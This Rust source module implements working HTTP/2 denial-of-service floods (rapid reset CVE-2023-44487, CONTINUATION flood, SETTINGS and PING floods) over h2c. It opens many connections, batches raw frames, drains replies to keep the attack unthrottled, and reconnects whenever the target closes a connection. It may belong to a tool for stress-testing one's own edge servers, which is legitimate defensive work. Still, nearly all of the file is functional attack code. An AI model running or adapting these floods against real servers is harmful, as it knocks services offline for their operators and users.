//! HTTP/2 floods over h2c, on raw frames ([`super::frames`]):
//!
//! - rapid reset (CVE-2023-44487): HEADERS for a real resolve, then
//!   RST_STREAM(CANCEL) at once, on ever new streams;
//! - CONTINUATION flood (CVE-2024-27316 family): HEADERS without
//!   END_HEADERS, then CONTINUATION frames that never end the block;
//! - SETTINGS flood and PING flood: each frame asks the server for an ACK.
//!
//! Each connection drains what the edge sends (answers, ACKs, GOAWAY) on
//! its own task, or the socket buffer would fill and throttle the attack
//! by the edge's writes; when the edge closes a connection, it is counted
//! and opened again.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::attack::{Aim, Counters, Stop};
use super::frames::{self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS};

/// Which HTTP/2 flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    RapidReset,
    Continuation,
    Settings,
    Ping,
}

/// Frames per write: enough to fill a socket buffer in one syscall.
const BATCH: usize = 64;
/// Highest client stream id; past it a connection starts over.
const MAX_STREAM_ID: u32 = (1 << 31) - 1;

/// Runs `flood` on [`Aim::connections`] connections until `stop`.
pub async fn run(flood: Flood, aim: Aim, stop: Stop, counters: Arc<Counters>) {
    let block: Arc<[u8]> =
        frames::get_block(&aim.authority, &aim.path, aim.token.as_deref()).into();
    let filler: Arc<[u8]> = continuation_payload().into();
    let mut tasks = JoinSet::new();
    for _ in 0..aim.connections.max(1) {
        let (aim, stop, counters) = (aim.clone(), stop.clone(), counters.clone());
        let (block, filler) = (block.clone(), filler.clone());
        tasks.spawn(async move { connection(flood, &aim, stop, &counters, &block, &filler).await });
    }
    while tasks.join_next().await.is_some() {}
}

/// One attack connection after another until `stop`.
async fn connection(
    flood: Flood,
    aim: &Aim,
    mut stop: Stop,
    counters: &Counters,
    block: &[u8],
    filler: &[u8],
) {
    while !stop.stopped() {
        let stream = match TcpStream::connect(aim.http).await {
            Ok(s) => s,
            Err(_) => {
                Counters::add(&counters.connect_failures, 1);
                if !stop.sleep(Duration::from_millis(10)).await {
                    return;
                }
                continue;
            }
        };
        Counters::add(&counters.connections_opened, 1);
        let _ = stream.set_nodelay(true);
        let (mut rd, mut wr) = stream.into_split();
        let mut drain = tokio::spawn(async move {
            let mut buf = vec![0u8; 64 * 1024];
            while matches!(rd.read(&mut buf).await, Ok(n) if n > 0) {}
        });
        let mut out = Vec::with_capacity(BATCH * 128);
        frames::opening(&mut out);
        let mut next_stream = 1u32;
        if flood == Flood::Continuation {
            // The block is never ended: END_STREAM, no END_HEADERS.
            frames::frame(&mut out, HEADERS, END_STREAM, 1, block);
        }
        let closed = loop {
            let sent = batch(flood, block, filler, &mut next_stream, &mut out);
            tokio::select! {
                biased;
                () = stop.wait() => break false,
                _ = &mut drain => break true,
                written = wr.write_all(&out) => match written {
                    Ok(()) => counters.sent(sent, out.len()),
                    Err(_) => break true,
                },
            }
            out.clear();
            if next_stream >= MAX_STREAM_ID - 2 * BATCH as u32 {
                break false;
            }
        };
        if closed {
            Counters::add(&counters.closed_by_edge, 1);
        }
        drain.abort();
    }
}

/// Appends one write's worth of `flood` to `out`; returns the frames.
fn batch(flood: Flood, block: &[u8], filler: &[u8], next: &mut u32, out: &mut Vec<u8>) -> u64 {
    match flood {
        Flood::RapidReset => {
            for _ in 0..BATCH {
                frames::frame(out, HEADERS, END_STREAM | END_HEADERS, *next, block);
                frames::rst_stream(out, *next, frames::CANCEL);
                *next += 2;
            }
            2 * BATCH as u64
        }
        Flood::Continuation => {
            // A few full frames per write: the point is bytes the server
            // must hold (or count) until END_HEADERS, which never comes.
            for _ in 0..4 {
                frames::frame(out, CONTINUATION, 0, 1, filler);
            }
            4
        }
        Flood::Settings => {
            for _ in 0..BATCH {
                frames::settings(out, frames::INITIAL_WINDOW_SIZE, 65_535);
            }
            BATCH as u64
        }
        Flood::Ping => {
            for i in 0..BATCH {
                frames::ping(out, i as u64);
            }
            BATCH as u64
        }
    }
}

/// A full CONTINUATION payload of small literal headers: each decodes to
/// a header the server would have to keep.
fn continuation_payload() -> Vec<u8> {
    let mut p = Vec::with_capacity(frames::DEFAULT_MAX_FRAME);
    let mut i = 0u32;
    loop {
        let mut one = Vec::with_capacity(32);
        frames::literal(&mut one, format!("x-flood-{i}").as_bytes(), b"aaaaaaaaaaaaaaaa");
        if p.len() + one.len() > frames::DEFAULT_MAX_FRAME {
            return p;
        }
        p.extend_from_slice(&one);
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn batches_are_whole_frames() {
        let (block, filler) = (frames::get_block("h:1", "/p", Some("t")), continuation_payload());
        assert!(filler.len() <= frames::DEFAULT_MAX_FRAME && filler.len() > 16_000);
        for flood in [Flood::RapidReset, Flood::Continuation, Flood::Settings, Flood::Ping] {
            let (mut out, mut next) = (Vec::new(), 1);
            let n = batch(flood, &block, &filler, &mut next, &mut out);
            // Walk the frame headers: they must land exactly on the end.
            let (mut at, mut seen) = (0, 0);
            while at < out.len() {
                let len = u32::from_be_bytes([0, out[at], out[at + 1], out[at + 2]]) as usize;
                at += 9 + len;
                seen += 1;
            }
            assert_eq!((at, seen), (out.len(), n), "{flood:?}");
        }
    }
}
